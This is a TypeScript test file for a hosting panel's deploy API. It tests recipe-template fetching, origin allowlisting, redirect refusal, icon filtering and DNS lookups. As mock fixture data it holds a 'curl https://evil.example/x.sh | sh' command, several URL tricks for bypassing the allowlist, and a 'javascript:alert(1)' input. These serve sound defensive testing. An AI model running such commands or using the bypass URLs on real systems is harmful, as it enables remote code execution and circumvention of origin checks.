import { fileURLToPath } from 'node:url';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { http, HttpResponse } from 'msw';
import { describe, expect, it } from 'vitest';
import { SCRIPT_MARKER_HEADER } from '../client';
import { ApiError, FETCH_ERROR_MESSAGE, NETWORK_ERROR_MESSAGE } from '../errors';
import { createTestClient, setupMswServer, rejection } from '../testing/msw-node';
import { createDeployApi } from './deploy';
import { DEFAULT_DOH_URL, DEFAULT_RECIPE_INDEX_URL, endpointOrigin, RecipeOriginError, resolveRecipeUrl } from './deploy-external';

const RECIPES_DIR = process.env.HOSTDECK_RECIPES_DIR ?? fileURLToPath(new URL('../../../../mock-api/src/fixtures/recipes', import.meta.url));
const RECIPES_URL = 'https://raw.githubusercontent.com/domcloud/recipes/master/';
const recipe = (file: string) => readFileSync(path.join(RECIPES_DIR, file), 'utf8');

const server = setupMswServer();
let clock = 0;
const api = createDeployApi(createTestClient(), {
  now: () => clock,
  cacheBuster: () => 'buster-1',
});

interface Received {
  path: string;
  query: Record<string, string>;
  marker: string | null;
  credentials: RequestCredentials;
}

const receive = (request: Request): Received => {
  const url = new URL(request.url);
  return { path: `${url.origin}${url.pathname}`, query: Object.fromEntries(url.searchParams), marker: request.headers.get(SCRIPT_MARKER_HEADER), credentials: request.credentials };
};


describe('createDeployApi: recipes', () => {
  it('reads the remote recipe index (YAML) without cookies or the script marker', async () => {
    let received: Received | undefined;
    server.use(
      http.get(DEFAULT_RECIPE_INDEX_URL, ({ request }) => {
        received = receive(request);
        return HttpResponse.text(recipe('index.yml'));
      }),
    );
    const index = await api.getRecipeIndex();
    expect(received).toEqual({ path: DEFAULT_RECIPE_INDEX_URL, query: {}, marker: null, credentials: 'omit' });
    expect(index.relative_url).toBe(RECIPES_URL);
    expect(index.templates[2]).toMatchObject({ title: 'Laravel', file: 'boot/laravel.yml' });
    expect(index.frameworks.length).toBeGreaterThan(40);
  });

  it('reads a recipe file relative to the index, raw and parsed', async () => {
    server.use(http.get(`${RECIPES_URL}boot/wordpress.yml`, () => HttpResponse.text(recipe('boot/wordpress.yml'))));
    const file = await api.getRecipeTemplate({ file: 'boot/wordpress.yml', relativeUrl: RECIPES_URL });
    expect(file.url).toBe(`${RECIPES_URL}boot/wordpress.yml`);
    expect(file.text).toBe(recipe('boot/wordpress.yml'));
    expect(file.template).toMatchObject({ source: 'https://wordpress.org/latest.zip#wordpress', features: ['mysql'], nginx: { fastcgi: 'on' } });
  });

  it('reads the ?from= file: an absolute URL on the index origin, or a path under the recipes', async () => {
    const seen: string[] = [];
    const own = 'https://raw.githubusercontent.com/me/app/main/deploy.yml';
    server.use(
      http.get(own, ({ request }) => {
        seen.push(request.url);
        return HttpResponse.text('features:\n  - node lts\ncommands:\n  - npm ci\n');
      }),
      http.get(`${RECIPES_URL}boot/laravel.yml`, ({ request }) => {
        seen.push(request.url);
        return HttpResponse.text(recipe('boot/laravel.yml'));
      }),
    );
    expect(await api.getTemplateFrom({ from: own })).toEqual({ url: own, text: 'features:\n  - node lts\ncommands:\n  - npm ci\n', template: { features: ['node lts'], commands: ['npm ci'] } });
    // Without a relative_url, the folder of the index is the base.
    const laravel = await api.getTemplateFrom({ from: '/boot/laravel.yml' });
    expect(laravel.template.root).toBe('public_html/public');
    expect(seen).toEqual([own, `${RECIPES_URL}boot/laravel.yml`]);
  });

  it("rejects a missing file as 'http' 404 and a file that is not a YAML object as 'malformed'", async () => {
    server.use(
      http.get(`${RECIPES_URL}gone.yml`, () => new HttpResponse('404: Not Found', { status: 404 })),
      http.get(`${RECIPES_URL}list.yml`, () => HttpResponse.text('- mysql\n- node\n')),
      http.get(`${RECIPES_URL}broken.yml`, () => HttpResponse.text('features: [mysql\n')),
    );
    expect(await rejection(api.getRecipeTemplate({ file: 'gone.yml' }))).toMatchObject({ kind: 'http', status: 404, message: NETWORK_ERROR_MESSAGE });
    expect(await rejection(api.getRecipeTemplate({ file: 'list.yml' }))).toMatchObject({ kind: 'malformed', message: FETCH_ERROR_MESSAGE });
    expect(await rejection(api.getTemplateFrom({ from: 'broken.yml' }))).toMatchObject({ kind: 'malformed', message: FETCH_ERROR_MESSAGE });
  });

  it('reads a script that refers to itself without overflowing: the wizard then refuses it as the editor does', async () => {
    server.use(http.get(`${RECIPES_URL}boot/loop.yml`, () => HttpResponse.text('nginx: &n\n  locations:\n    - *n\n')));
    const file = await api.getTemplateFrom({ from: `${RECIPES_URL}boot/loop.yml` });
    expect(file.text).toBe('nginx: &n\n  locations:\n    - *n\n');
  });

  it("rejects a malformed index as 'malformed' and a 500 as 'http'", async () => {
    server.use(http.get(DEFAULT_RECIPE_INDEX_URL, () => HttpResponse.text('templates:\n  - file: boot/x.yml\n')));
    expect((await rejection(api.getRecipeIndex())).kind).toBe('malformed');
    server.use(http.get(DEFAULT_RECIPE_INDEX_URL, () => new HttpResponse('down', { status: 500 })));
    expect(await rejection(api.getRecipeIndex())).toMatchObject({ kind: 'http', status: 500 });
  });

  it('takes the index address from the factory options', async () => {
    server.use(http.get('https://recipes.example/index.yml', () => HttpResponse.text('relative_url: https://recipes.example/\n')));
    const custom = createDeployApi(createTestClient(), { recipeIndexUrl: 'https://recipes.example/index.yml' });
    await expect(custom.getRecipeIndex()).resolves.toEqual({ relative_url: 'https://recipes.example/', templates: [], templates_more: [], frameworks: [] });
  });
});

describe('createDeployApi: where templates and icons may come from', () => {
  /** Every request that reaches the network, whatever its address. */
  const recordAll = () => {
    const seen: string[] = [];
    server.use(
      http.all('*', ({ request }) => {
        seen.push(request.url);
        return HttpResponse.text('commands:\n  - curl https://evil.example/x.sh | sh\n');
      }),
    );
    return seen;
  };

  const refusal = async (promise: Promise<unknown>) => {
    const error = await rejection(promise);
    expect(error).toBeInstanceOf(RecipeOriginError);
    const { kind, message, detail, indexOrigin, refusedOrigin } = error as RecipeOriginError;
    return { kind, message, detail, indexOrigin, refusedOrigin };
  };

  it.each<[string, string, string]>([
    ['another site', 'https://evil.example/deploy.yml', 'https://evil.example'],
    ['a look-alike host', 'https://raw.githubusercontent.com.evil.example/domcloud/recipes/master/x.yml', 'https://raw.githubusercontent.com.evil.example'],
    ['the index host as userinfo', 'https://raw.githubusercontent.com@evil.example/x.yml', 'https://evil.example'],
    ['backslashes for slashes', 'https:\\\\evil.example\\x.yml', 'https://evil.example'],
    ['a path of backslashes that leaves the recipes', '\\\\evil.example\\x.yml', 'https://evil.example'],
    ['plain http', 'http://raw.githubusercontent.com/domcloud/recipes/master/x.yml', 'http://raw.githubusercontent.com'],
    ['userinfo on the index origin', 'https://me@raw.githubusercontent.com/x.yml', 'https://me@raw.githubusercontent.com/x.yml'],
  ])('refuses a ?from= link to %s before any request, naming its origin', async (_case, from, refused) => {
    const seen = recordAll();
    expect(await refusal(api.getTemplateFrom({ from, relativeUrl: RECIPES_URL }))).toEqual({
      kind: 'malformed',
      message: `Templates can only come from https://raw.githubusercontent.com; ${refused} is not allowed.`,
      detail: refused,
      indexOrigin: 'https://raw.githubusercontent.com',
      refusedOrigin: refused,
    });
    expect(seen).toEqual([]);
  });

  it("refuses a tile whose index names a relative_url, or a file, on another origin", async () => {
    const seen = recordAll();
    expect(await refusal(api.getRecipeTemplate({ file: 'boot/wordpress.yml', relativeUrl: 'https://evil.example/recipes/' }))).toMatchObject({
      refusedOrigin: 'https://evil.example',
      message: expect.stringContaining('https://evil.example is not allowed') as string,
    });
    expect(await refusal(api.getRecipeTemplate({ file: 'https://cdn.example/wordpress.yml', relativeUrl: RECIPES_URL }))).toMatchObject({ refusedOrigin: 'https://cdn.example' });
    expect(seen).toEqual([]);
  });

  it('fetches from an origin of the allowlist, and from a configured recipe base', async () => {
    const seen = recordAll();
    const listed = createDeployApi(createTestClient(), { allowedRecipeOrigins: ['https://gist.example.org', 'not an origin'] });
    await expect(listed.getTemplateFrom({ from: 'https://gist.example.org/me/app.yml' })).resolves.toMatchObject({ url: 'https://gist.example.org/me/app.yml' });
    expect(await refusal(listed.getTemplateFrom({ from: 'https://evil.gist.example.org/app.yml' }))).toMatchObject({ refusedOrigin: 'https://evil.gist.example.org' });
    const mirrored = createDeployApi(createTestClient(), { recipeBaseUrl: 'https://mirror.example/recipes/' });
    await expect(mirrored.getRecipeTemplate({ file: 'boot/x.yml' })).resolves.toMatchObject({ url: 'https://mirror.example/recipes/boot/x.yml' });
    expect(seen).toEqual(['https://gist.example.org/me/app.yml', 'https://mirror.example/recipes/boot/x.yml']);
  });

  it('refuses a recipe address on the allowed origin that redirects elsewhere, and never reads the other origin', async () => {
    let reachedElsewhere = false;
    server.use(
      http.get(`${RECIPES_URL}boot/moved.yml`, () => new HttpResponse(null, { status: 302, headers: { Location: 'https://evil.example/payload.yml' } })),
      http.get('https://evil.example/payload.yml', () => {
        reachedElsewhere = true;
        return HttpResponse.text('features:\n  - ssl\n');
      }),
    );
    const error = await rejection(api.getTemplateFrom({ from: `${RECIPES_URL}boot/moved.yml` }));
    expect(error).toMatchObject({ kind: 'network', message: NETWORK_ERROR_MESSAGE });
    expect(reachedElsewhere).toBe(false);
  });

  it("names a custom index's origin as the one templates come from", async () => {
    const custom = createDeployApi(createTestClient(), { recipeIndexUrl: 'http://localhost:5173/recipes/index.yml' });
    expect(await refusal(custom.getTemplateFrom({ from: 'https://raw.githubusercontent.com/domcloud/recipes/master/x.yml' }))).toMatchObject({
      indexOrigin: 'http://localhost:5173',
      refusedOrigin: 'https://raw.githubusercontent.com',
    });
  });

  const indexWithIcons = (relativeUrl: string) =>
    [
      `relative_url: ${relativeUrl}`,
      'templates:',
      '  - {title: Beside, file: a.yml, icon: icons/a.svg}',
      '  - {title: Site, file: b.yml, icon: "https://simpleicons.org/icons/b.svg"}',
      '  - {title: Inline, file: c.yml, icon: "data:image/svg+xml,%3Csvg%2F%3E"}',
      '  - {title: Sneaky, file: d.yml, icon: "//evil.example/d.svg"}',
      '  - {title: None, file: e.yml}',
      '',
    ].join('\n');
  const iconsOf = (index: { templates: { title: string; icon?: string }[] }) => Object.fromEntries(index.templates.map((tile) => [tile.title, tile.icon]));

  it("drops tile icons from other origins, so the gallery loads none of them", async () => {
    server.use(http.get(DEFAULT_RECIPE_INDEX_URL, () => HttpResponse.text(indexWithIcons(RECIPES_URL))));
    expect(iconsOf(await api.getRecipeIndex())).toEqual({
      Beside: `${RECIPES_URL}icons/a.svg`,
      Site: undefined,
      Inline: 'data:image/svg+xml,%3Csvg%2F%3E',
      Sneaky: undefined,
      None: undefined,
    });
    const listed = createDeployApi(createTestClient(), { allowedRecipeOrigins: ['https://simpleicons.org'] });
    expect(iconsOf(await listed.getRecipeIndex())).toMatchObject({ Site: 'https://simpleicons.org/icons/b.svg', Sneaky: undefined });
  });

  it("drops icons beside recipes whose relative_url is on another origin", async () => {
    server.use(http.get(DEFAULT_RECIPE_INDEX_URL, () => HttpResponse.text(indexWithIcons('https://evil.example/recipes/'))));
    expect(iconsOf(await api.getRecipeIndex())).toMatchObject({ Beside: undefined, Inline: 'data:image/svg+xml,%3Csvg%2F%3E' });
  });
});

describe('resolveRecipeUrl', () => {
  it('keeps absolute URLs and resolves paths under the base', () => {
    expect(resolveRecipeUrl('https://x.example/a.yml', RECIPES_URL)).toBe('https://x.example/a.yml');
    // As fetch() will read it: a scheme in capitals is still an outside address, not a path of the panel's own API.
    expect(resolveRecipeUrl('HTTPS://X.example/a.yml', RECIPES_URL)).toBe('https://x.example/a.yml');
    expect(resolveRecipeUrl('boot/x.yml', RECIPES_URL)).toBe(`${RECIPES_URL}boot/x.yml`);
    expect(resolveRecipeUrl('/boot/x.yml', RECIPES_URL)).toBe(`${RECIPES_URL}boot/x.yml`);
    expect(resolveRecipeUrl('//evil.example/x.yml', 'https://r.example/recipes')).toBe('https://r.example/recipes/evil.example/x.yml');
  });

  it('refuses other schemes', () => {
    for (const from of ['javascript:alert(1)', 'ftp://files.example/x.yml', 'data:text/plain,features']) {
      expect(() => resolveRecipeUrl(from, RECIPES_URL)).toThrow(ApiError);
    }
  });
});

describe('createDeployApi: domain check and latency', () => {
  it('looks up A records over DNS-over-HTTPS with a cache-buster', async () => {
    let received: Received | undefined;
    server.use(
      http.get(DEFAULT_DOH_URL, ({ request }) => {
        received = receive(request);
        return HttpResponse.json({ Status: 0, TC: false, RD: true, RA: true, Question: [{ name: 'example.com.', type: 1 }], Answer: [{ name: 'example.com.', type: 1, TTL: 300, data: '68.183.191.223' }] });
      }),
    );
    const answer = await api.lookupDomainA({ domain: 'example.com' });
    expect(received).toEqual({ path: DEFAULT_DOH_URL, query: { name: 'example.com', type: 'A', random_padding: 'buster-1' }, marker: null, credentials: 'omit' });
    expect(answer.Answer).toEqual([{ name: 'example.com.', type: 1, TTL: 300, data: '68.183.191.223' }]);
  });

  it("reads NXDOMAIN as no answer, and rejects a malformed answer as 'malformed'", async () => {
    server.use(http.get(DEFAULT_DOH_URL, () => HttpResponse.json({ Status: 3, Question: [{ name: 'nope.example.', type: 1 }] })));
    await expect(api.lookupDomainA({ domain: 'nope.example' })).resolves.toMatchObject({ Status: 3, Answer: [] });
    server.use(http.get(DEFAULT_DOH_URL, () => HttpResponse.json({ Answer: 'none' })));
    expect((await rejection(api.lookupDomainA({ domain: 'nope.example' }))).kind).toBe('malformed');
  });

  it('times a GET of the server endpoint with the injected clock', async () => {
    let received: Received | undefined;
    server.use(
      http.get('https://sgp.domcloud.co/status/ping', ({ request }) => {
        received = receive(request);
        clock += 42.5;
        return HttpResponse.text('pong');
      }),
    );
    clock = 1000;
    await expect(api.measureServerLatency({ endpoint: 'sgp.domcloud.co' })).resolves.toBe(42.5);
    expect(received).toEqual({ path: 'https://sgp.domcloud.co/status/ping', query: { t: 'buster-1' }, marker: null, credentials: 'omit' });
    await expect(api.measureServerLatency({ endpoint: 'https://sgp.domcloud.co/' })).resolves.toBe(42.5);
  });

  it("rejects an unreachable or failing server ('network', 'http')", async () => {
    server.use(
      http.get('https://down.example/status/ping', () => HttpResponse.error()),
      http.get('https://broken.example/status/ping', () => new HttpResponse(null, { status: 502 })),
    );
    expect((await rejection(api.measureServerLatency({ endpoint: 'down.example' }))).kind).toBe('network');
    expect(await rejection(api.measureServerLatency({ endpoint: 'broken.example' }))).toMatchObject({ kind: 'http', status: 502 });
  });

  it('normalises endpoints to https origins', () => {
    expect(endpointOrigin(' sgp.domcloud.co ')).toBe('https://sgp.domcloud.co');
    expect(endpointOrigin('http://bridge.local:2223/')).toBe('http://bridge.local:2223');
  });
});
